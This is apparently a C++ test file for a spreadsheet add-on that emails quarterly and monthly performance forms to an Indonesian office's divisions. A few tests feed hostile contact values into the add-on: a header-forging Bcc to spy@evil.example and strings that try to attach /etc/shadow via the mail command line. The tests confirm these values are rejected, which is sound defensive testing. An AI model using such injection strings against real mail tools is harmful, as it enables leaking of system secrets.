// The messages that send the forms: kinerja forms --eml (a message per bidang to its contact,
// the form attached, read back by Python's email library as any mail program would parse it),
// and the menu's Kirim Formulir lewat Surel through the office's own mail service, with a test
// mail program that records what it was given.
#include <doctest/doctest.h>

#include <com/sun/star/sheet/XSpreadsheetDocument.hpp>
#include <com/sun/star/beans/NamedValue.hpp>
#include <com/sun/star/configuration/theDefaultProvider.hpp>
#include <com/sun/star/container/XNameReplace.hpp>
#include <com/sun/star/frame/DispatchResultState.hpp>
#include <com/sun/star/lang/XMultiServiceFactory.hpp>
#include <com/sun/star/text/XText.hpp>
#include <com/sun/star/util/XChangesBatch.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <ctime>
#include <algorithm>

#include "office_fixture.hpp"
#include "pull_fixture.hpp"
#include "unobase/grid_io.hpp"

using namespace kinerja::test;
using namespace kinerja;
using css::uno::Reference;
using css::uno::UNO_QUERY_THROW;
using css::beans::PropertyValue;
using css::uno::Any;
using css::uno::Sequence;

namespace {

std::string read_text(const std::filesystem::path& file) {
  std::ifstream in(file, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

// The officer fills in a bidang's contact on Pengaturan (Kontak Bidang).
void set_contact(const std::filesystem::path& master, const std::string& division, const std::string& name,
                 const std::string& address) {
  Workbook book = Workbook::load(master);
  Reference<css::sheet::XSpreadsheetDocument> document(book.component(), UNO_QUERY_THROW);
  const auto settings = unobase::sheet_named(document, "Pengaturan");
  const core::Grid grid = unobase::read_sheet(settings, "Pengaturan");
  int row = -1;
  for (int r = 0; r < grid.row_count(); ++r) {
    if (grid.text(r, 0) == division) row = r;
  }
  REQUIRE(row > 0);  // a new master has a contact row for every bidang
  Reference<css::text::XText>(settings->getCellByPosition(1, row), UNO_QUERY_THROW)->setString(ou(name));
  Reference<css::text::XText>(settings->getCellByPosition(2, row), UNO_QUERY_THROW)->setString(ou(address));
  book.store_as(master, "calc8");
}

// A mail program for the office's mail service (Tools > Options > Internet > Email), set for
// the test office while it lives: named kmail so that the office's senddoc script runs it and
// waits for it, it writes each call's arguments (NUL-separated) to calls/message-<n> and exits
// with `exit_code`.
class RecordingMailProgram {
 public:
  RecordingMailProgram(const std::filesystem::path& dir, int exit_code) : calls_(dir / "calls") {
    std::filesystem::create_directories(calls_);
    std::filesystem::create_directories(dir / "bin");
    const auto program = dir / "bin" / "kmail";
    std::ofstream(program) << "#!/bin/sh\nn=$(ls '" << calls_.string() << "' | wc -l)\nprintf '%s\\0' \"$@\" > '"
                           << calls_.string() << "'/message-$n\nexit " << exit_code << "\n";
    std::filesystem::permissions(program, std::filesystem::perms::owner_all);
    set_program(program.string());
  }
  ~RecordingMailProgram() { set_program(""); }

  // The arguments of each call, in order.
  std::vector<std::vector<std::string>> calls() const {
    std::vector<std::vector<std::string>> all;
    for (int n = 0; std::filesystem::exists(calls_ / ("message-" + std::to_string(n))); ++n) {
      const std::string bytes = read_text(calls_ / ("message-" + std::to_string(n)));
      std::vector<std::string> arguments;
      std::size_t start = 0;
      for (std::size_t end; (end = bytes.find('\0', start)) != std::string::npos; start = end + 1) {
        arguments.push_back(bytes.substr(start, end - start));
      }
      all.push_back(arguments);
    }
    return all;
  }

 private:
  static void set_program(const std::string& program) {
    const Reference<css::lang::XMultiServiceFactory> provider =
        css::configuration::theDefaultProvider::get(office_session().context());
    css::beans::NamedValue path{"nodepath", css::uno::Any(ou("/org.openoffice.Office.Common/ExternalMailer"))};
    const css::uno::Any argument_list[] = {css::uno::Any(path)};
    const css::uno::Sequence<css::uno::Any> arguments(argument_list, 1);
    const Reference<css::container::XNameReplace> mailer(
        provider->createInstanceWithArguments("com.sun.star.configuration.ConfigurationUpdateAccess", arguments),
        UNO_QUERY_THROW);
    mailer->replaceByName("Program", css::uno::Any(ou(program)));
    Reference<css::util::XChangesBatch>(mailer, UNO_QUERY_THROW)->commitChanges();
  }

  std::filesystem::path calls_;
};

// The value after `flag` in a call's arguments; empty when the flag is not there.
std::string after(const std::vector<std::string>& arguments, const std::string& flag) {
  for (std::size_t i = 0; i + 1 < arguments.size(); ++i) {
    if (arguments[i] == flag) return arguments[i + 1];
  }
  return {};
}

// Today as the master writes it ("4 Desember 2026"), from the test's own clock.
std::string today_in_indonesian() {
  static const char* months[] = {"Januari", "Februari", "Maret",     "April",   "Mei",      "Juni",
                                 "Juli",    "Agustus",  "September", "Oktober", "November", "Desember"};
  const std::time_t now = std::time(nullptr);
  std::tm local{};
  localtime_r(&now, &local);
  return std::to_string(local.tm_mday) + " " + months[local.tm_mon] + " " + std::to_string(local.tm_year + 1900);
}

}  // namespace

TEST_CASE("kinerja forms --eml: one message per bidang to its contact, the form attached, readable by a mail parser") {
  TempDir dir;
  const auto master = make_master(dir.path);
  set_contact(master, "Sekretariat", "Ani Lestari", "ani@satpolpp.contoh.go.id");
  const auto forms = dir.path / "formulir";
  const auto mail = dir.path / "surel";
  const CliRun run = run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml",
                              mail.string()});
  CAPTURE(run.err);
  REQUIRE(run.exit_code == 0);
  CHECK(run.out.find("4 pesan surel formulir TW II 2023 (.eml) dibuat di folder " + mail.string() + ". 3 tanpa alamat penerima") !=
        std::string::npos);
  CHECK(run.err.find("Surel Bidang Perlindungan Masyarakat belum diisi di Pengaturan (Kontak Bidang)") != std::string::npos);
  const auto eml = mail / "Kinerja-2023-TW2-Sekretariat.eml";
  REQUIRE(std::filesystem::exists(eml));
  // Parsed by Python's email package: the headers, the body, the attachment's bytes.
  const auto out = dir.path / "parsed.txt";
  const auto attachment = dir.path / "lampiran.xlsx";
  python(R"py(
import sys, email
from email import policy
with open(sys.argv[1], "rb") as f:
    message = email.message_from_binary_file(f, policy=policy.default)
body = message.get_body(preferencelist=("plain",)).get_content()
parts = list(message.iter_attachments())
assert len(parts) == 1
with open(sys.argv[3], "wb") as f:
    f.write(parts[0].get_content())
with open(sys.argv[2], "w", encoding="utf-8") as f:
    f.write("To: %s\nSubject: %s\nFile: %s\nBody: %s\n" % (message["To"], message["Subject"], parts[0].get_filename(),
                                                        body.splitlines()[0]))
)py",
         {eml.string(), out.string(), attachment.string()});
  const std::string parsed = read_text(out);
  CHECK(parsed.find("To: Ani Lestari <ani@satpolpp.contoh.go.id>\n") != std::string::npos);
  CHECK(parsed.find("Subject: Formulir Realisasi Kinerja TW II 2023 - Sekretariat (batas kirim 10 Juli 2023)\n") !=
        std::string::npos);
  CHECK(parsed.find("File: Kinerja-2023-TW2-Sekretariat.xlsx\n") != std::string::npos);
  CHECK(parsed.find("Body: Yth. Ani Lestari,\n") != std::string::npos);
  CHECK(file_sha256(attachment) == file_sha256(forms / "Kinerja-2023-TW2-Sekretariat.xlsx"));  // the form itself

  // Made again without --force: the forms and the messages are kept.
  const std::string before = file_sha256(eml);
  CHECK(run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml", mail.string()})
            .exit_code != 0);
  CHECK(file_sha256(eml) == before);
}

TEST_CASE("menu: Kirim Formulir lewat Surel opens a message per bidang in the mail program, the form attached") {
  TempDir dir;
  const auto master = make_master(dir.path);
  set_contact(master, "Sekretariat", "Ani Lestari", "ani@satpolpp.contoh.go.id");
  const RecordingMailProgram mail(dir.path, 0);
  const auto forms = dir.path / "formulir-tw2";
  std::filesystem::create_directories(forms);  // empty: the forms are made first
  Workbook book = Workbook::load(master);
  const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
  const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
  CAPTURE(message_of(event));
  CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
  CHECK(contains(message_of(event), say("4 pesan surel formulir TW II 2023 dibuka di program surel",
                                        "4 email messages with the TW II 2023 forms opened in the mail program")));
  CHECK(contains(message_of(event), say("3 tanpa alamat penerima", "3 without a recipient")));

  const auto calls = mail.calls();
  REQUIRE(calls.size() == 4);  // one per bidang, in the agreement's order: Sekretariat first
  const std::vector<std::string>& sekretariat = calls[0];
  CHECK(sekretariat.front() == "--composer");
  CHECK(sekretariat.back() == "ani@satpolpp.contoh.go.id");
  CHECK(after(sekretariat, "--subject") == "Formulir Realisasi Kinerja TW II 2023 - Sekretariat (batas kirim 10 Juli 2023)");
  CHECK(after(sekretariat, "--body").starts_with("Yth. Ani Lestari,\n"));
  CHECK(contains(after(sekretariat, "--body"), "paling lambat 10 Juli 2023"));
  const std::string attached = after(sekretariat, "--attach");
  CHECK(attached == "file://" + (forms / "Kinerja-2023-TW2-Sekretariat.xlsx").string());
  CHECK(std::filesystem::exists(forms / "Kinerja-2023-TW2-Sekretariat.xlsx"));
  CHECK(sheet_of(forms / "Kinerja-2023-TW2-Sekretariat.xlsx", "Formulir").text(1, 0) != "");  // a real form
  // A bidang without an address: the message has no recipient, the user picks one.
  CHECK(after(calls[1], "--subject").ends_with("(batas kirim 10 Juli 2023)"));
  CHECK_FALSE(contains(calls[1].back(), "@"));

  // Status Kiriman notes the day each TW II form went out; TW I went nowhere.
  const core::Grid status = sheet_grid(book, "Status Kiriman");
  CHECK(status.text(0, 2) == "Dikirim");
  int sent = 0;
  for (int r = 1; r < status.row_count() && !status.row_is_empty(r); ++r) {
    if (status.text(r, 1) == "TW II") {
      CHECK(status.text(r, 2) == today_in_indonesian());
      ++sent;
    } else {
      CHECK(status.text(r, 2).empty());
    }
  }
  CHECK(sent == 4);
}

TEST_CASE("menu: Kirim Formulir lewat Surel without a working mail program says so and notes nothing sent") {
  TempDir dir;
  const auto master = make_master(dir.path);
  const auto forms = make_forms(master, dir.path, 2);
  const RecordingMailProgram mail(dir.path, 1);  // the mail program fails
  Workbook book = Workbook::load(master);
  const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
  const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
  CHECK(event.State == css::frame::DispatchResultState::FAILURE);
  CHECK(contains(message_of(event), say("Program surel tidak dapat dibuka", "The mail program could not be opened")));
  CHECK(mail.calls().size() == 1);  // tried once, not once per bidang
  const auto names = sheet_names(book);
  if (std::find(names.begin(), names.end(), "Status Kiriman") != names.end()) {
    const core::Grid status = sheet_grid(book, "Status Kiriman");
    for (int r = 1; r < status.row_count() && !status.row_is_empty(r); ++r) CHECK(status.text(r, 2).empty());
  }
}

TEST_CASE("menu: Kirim Formulir lewat Surel with a month sends the monthly progress forms and notes the month") {
  TempDir dir;
  const auto master = make_master(dir.path);
  const RecordingMailProgram mail(dir.path, 0);
  const auto forms = dir.path / "juli";
  std::filesystem::create_directories(forms);
  Workbook book = Workbook::load(master);
  const PropertyValue arguments[] = {argument("Month", Any(sal_Int32(7))), argument("FormsDirUrl", url_of(forms))};
  const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
  CAPTURE(message_of(event));
  CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
  CHECK(contains(message_of(event), say("4 pesan surel formulir Juli 2023 dibuka", "4 email messages with the July 2023 forms opened")));
  const auto calls = mail.calls();
  REQUIRE(calls.size() == 4);
  // 31 July + 10 days: 10 August.
  CHECK(after(calls[0], "--subject") == "Laporan Progres Bulanan Juli 2023 - Sekretariat (batas kirim 10 Agustus 2023)");
  CHECK(after(calls[0], "--attach") == "file://" + (forms / "Kinerja-2023-B07-Sekretariat.xlsx").string());
  const core::Grid status = sheet_grid(book, "Status Kiriman");
  int july = 0;
  for (int r = 1; r < status.row_count() && !status.row_is_empty(r); ++r) {
    if (status.text(r, 1) != "Juli") continue;
    ++july;
    CHECK(status.text(r, 2) == today_in_indonesian());
    CHECK(status.text(r, 3) == "10 Agustus 2023");
  }
  CHECK(july == 4);
}

TEST_CASE("a contact that would forge a header is named by its cell and skipped, the other bidang get theirs") {
  TempDir dir;
  const auto master = make_master(dir.path);
  const auto forms = make_forms(master, dir.path, 2);
  // A name that would add a Bcc to the .eml.
  set_contact(master, "Sekretariat", "Ani\nBcc: spy@evil.example", "ani@satpolpp.contoh.go.id");
  const auto mail = dir.path / "surel";
  const CliRun run = run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml",
                              mail.string(), "--force"});
  CAPTURE(run.out);
  CAPTURE(run.err);
  CHECK(contains(run.err, "buku-induk.ods: Pengaturan!B25: Galat: Pesan untuk Sekretariat tidak dibuat: Nama kontak "
                          "Sekretariat berisi baris baru atau karakter kendali lain (\"Ani↵Bcc: spy@evil.example\")"));
  CHECK_FALSE(std::filesystem::exists(mail / "Kinerja-2023-TW2-Sekretariat.eml"));
  int written = 0;
  for (const auto& entry : std::filesystem::directory_iterator(mail)) {
    CHECK_FALSE(contains(read_text(entry.path()), "spy@evil.example"));
    ++written;
  }
  CHECK(written == 3);

  // An address that would give senddoc's command line an attachment and a Bcc.
  set_contact(master, "Sekretariat", "Ani", "x'@y.z?attach=/etc/shadow&bcc=spy@evil.example");
  const RecordingMailProgram program(dir.path, 0);
  {
    Workbook book = Workbook::load(master);
    const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
    const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
    CAPTURE(message_of(event));
    CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
    CHECK(contains(message_of(event), "Pengaturan!C25"));
    CHECK(contains(message_of(event), "Pesan untuk Sekretariat tidak dibuat: Surel \"x'@y.z?attach=/etc/shadow&bcc="
                                      "spy@evil.example\" untuk Sekretariat bukan alamat surel yang dapat dipakai"));
  }
  const auto calls = program.calls();
  CHECK(calls.size() == 3);  // the other bidang's messages opened
  for (const auto& call : calls) {
    for (const std::string& word : call) CHECK_FALSE(contains(word, "shadow"));
    CHECK(after(call, "--subject").find("Sekretariat") == std::string::npos);
  }
  // Only the sending waits for the contact: the master's other commands go on.
  CHECK(run_cli({"rollup", "--master", master.string()}).exit_code == 0);
}

TEST_CASE("kinerja forms --eml: quotes, a comma and angle brackets stay inside the contact's name") {
  TempDir dir;
  const auto master = make_master(dir.path);
  set_contact(master, "Sekretariat", "Ani \"Bu\" Lestari, <Kabid>", "ani@satpolpp.contoh.go.id");
  const auto forms = dir.path / "formulir";
  const auto mail = dir.path / "surel";
  const CliRun run = run_cli({"forms", "--master", master.string(), "--quarter", "2", "--out", forms.string(), "--eml",
                              mail.string()});
  CAPTURE(run.err);
  REQUIRE(run.exit_code == 0);
  const auto out = dir.path / "penerima.txt";
  python(R"py(
import sys, email
from email import policy
with open(sys.argv[1], "rb") as f:
    message = email.message_from_binary_file(f, policy=policy.default)
to = message["To"].addresses
with open(sys.argv[2], "w", encoding="utf-8") as f:
    f.write("%d|%s|%s|%d|%d" % (len(to), to[0].display_name, to[0].addr_spec, len(message.get_all("To")),
                                 len(message.get_all("Bcc") or [])))
)py",
         {(mail / "Kinerja-2023-TW2-Sekretariat.eml").string(), out.string()});
  CHECK(read_text(out) == "1|Ani \"Bu\" Lestari, <Kabid>|ani@satpolpp.contoh.go.id|1|0");
}

TEST_CASE("menu: the mail program is handed the bare address, and a name's apostrophes cannot end senddoc's quotes") {
  TempDir dir;
  const auto master = make_master(dir.path);
  const auto forms = make_forms(master, dir.path, 2);
  set_contact(master, "Sekretariat", "Ani',attachment='file:///etc/shadow", "ani@satpolpp.contoh.go.id");
  const RecordingMailProgram program(dir.path, 0);
  Workbook book = Workbook::load(master);
  const PropertyValue arguments[] = {argument("Quarter", Any(sal_Int32(2))), argument("FormsDirUrl", url_of(forms))};
  const auto event = dispatch(book, "org.kinerja:SendForms", Sequence<PropertyValue>(arguments, 2));
  CAPTURE(message_of(event));
  CHECK(event.State == css::frame::DispatchResultState::SUCCESS);
  const auto calls = program.calls();
  REQUIRE(calls.size() == 4);
  CHECK(calls[0].back() == "ani@satpolpp.contoh.go.id");
  CHECK(after(calls[0], "--body").starts_with("Yth. Ani’,attachment=’file:///etc/shadow,\n"));
  for (const std::string& word : calls[0]) CHECK_FALSE(contains(word, "'"));
  CHECK(after(calls[0], "--attach") == "file://" + (forms / "Kinerja-2023-TW2-Sekretariat.xlsx").string());
}
